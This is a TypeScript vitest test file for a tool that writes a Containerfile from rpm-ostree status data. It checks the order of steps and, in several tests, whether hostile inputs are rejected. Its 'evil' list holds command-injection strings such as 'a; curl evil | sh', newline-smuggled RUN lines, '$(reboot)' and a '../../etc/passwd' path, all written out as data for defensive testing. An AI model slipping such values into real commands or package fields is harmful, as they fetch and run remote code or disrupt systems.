/** The Containerfile of a plan: what it does in which order, and what is never written into it. */
import { describe, expect, test } from "vitest";
import { UsageError } from "../../harness/base/errors.ts";
import { everyChange } from "../golden/rpm-ostree-status.ts";
import { errorOf, planFor } from "./support/migrate-plan.ts";

describe("the Containerfile", () => {
  test("has every kind of change, in an order that works", () => {
    expect(
      planFor(everyChange).containerfile,
    ).toBe(`# Made by bootgate migrate-plan for deployment fedora-${"a".repeat(64)}.0.
# It is the image of the same system that Fedora's projects publish; look with \`skopeo inspect\` whether it is there and has the label containers.bootc.
FROM quay.io/fedora-ostree-desktops/silverblue:43

RUN dnf -y --setopt=clean_requirements_on_remove=False remove firefox firefox-langpacks

# Put the RPM files into rpms/replacements/ first:
# podman-5.5.0-1.fc43.x86_64.rpm
COPY rpms/replacements/ /tmp/rpms/replacements/
RUN rpm --upgrade --oldpackage --replacepkgs /tmp/rpms/replacements/*.rpm && rm -rf /tmp/rpms

RUN dnf -y --repo=copr:example distro-sync mesa-libGL-26.1-1.fc43.x86_64

# Put the RPM files into rpms/local/ first:
# mytool-1.0-1.noarch.rpm
COPY rpms/local/ /tmp/rpms/local/
RUN dnf -y install /tmp/rpms/local/*.rpm && rm -rf /tmp/rpms

# Put the RPM files into rpms/over-files/ first:
# patched-2.0-1.x86_64.rpm
COPY rpms/over-files/ /tmp/rpms/over-files/
RUN rpm --upgrade --oldpackage --replacepkgs --replacefiles /tmp/rpms/over-files/*.rpm && rm -rf /tmp/rpms

RUN dnf -y install htop vim-enhanced 'pkgconfig(zlib)' && dnf clean all

COPY etc/vconsole.conf /etc/vconsole.conf
RUN kver=$(ls /usr/lib/modules) && dracut --force --no-hostonly --reproducible --add ostree --add-drivers 'nvme vfio' --install /etc/vconsole.conf "/usr/lib/modules/$kver/initramfs.img" "$kver"

RUN bootc container lint
`);
  });

  const evil = [
    "a; curl evil | sh",
    "a\nRUN curl evil",
    "a\rRUN curl evil",
    "a$(reboot)",
    "a`reboot`",
    "a' && reboot #",
    'a" && reboot',
    "a\\",
    "a<<EOF",
    "--config=/tmp/x",
    "",
    "a b",
    "../../etc/passwd",
    "a\u2028b",
    "a\u0000b",
    "a\u001b[2J",
    "x".repeat(400),
  ];
  test.each([
    ["requested-packages", [...evil, "https://example.org/x.rpm", "x.rpm", "//x/y"]],
    ["requested-local-packages", evil],
    ["requested-local-fileoverride-packages", evil],
    ["requested-base-removals", evil],
    ["requested-base-local-replacements", evil],
    ["requested-modules", evil],
    ["requested-modules-enabled", evil],
    ["initramfs-etc", [...evil, "/etc/../root", "/usr/bin/sh", "/etc/a b"]],
    [
      "initramfs-args",
      ["a\nRUN x", "a<<EOF", "a;b", "$(x)", "`x`", "a\\", "a&b", "a|b", "a>b", ""],
    ],
  ])("is not made with what is not plain in %s", (key, words) => {
    for (const word of words) {
      const error = errorOf(() => planFor({ [key]: ["htop", word] }));
      expect(error.message, word).toContain(`The status has something in '${key}'`);
      expect(error.blame).toBe("caller");
      expect(error.message).not.toMatch(/[\u0000\u001b\r]/);
    }
  });

  test("does not take a replacement without names for one of every package", () => {
    const { containerfile } = planFor({
      "base-remote-replacements": { "repo=x": [] },
      "requested-packages": ["htop"],
    });
    expect(containerfile).not.toContain("distro-sync");
    expect(containerfile).toContain("# What came from 'repo=x' is not named");
  });

  test("is not made with a hostile replacement from a repository", () => {
    const make = (replacements: unknown) => planFor({ "base-remote-replacements": replacements });
    expect(() => make({ "repo=x": ["a; b"] })).toThrow(UsageError);
    const { containerfile } = make({ "repo=x\nRUN evil": ["mesa"] });
    expect(containerfile).not.toMatch(/^RUN evil/m);
    expect(containerfile).toContain("replace them by hand:");
  });

  test("has no line of its own from an identity or a version", () => {
    const { containerfile } = planFor({
      id: "x\nRUN evil",
      version: "1\nRUN evil",
      "requested-packages": ["htop"],
    });
    expect(containerfile).not.toMatch(/^RUN evil/m);
  });
});
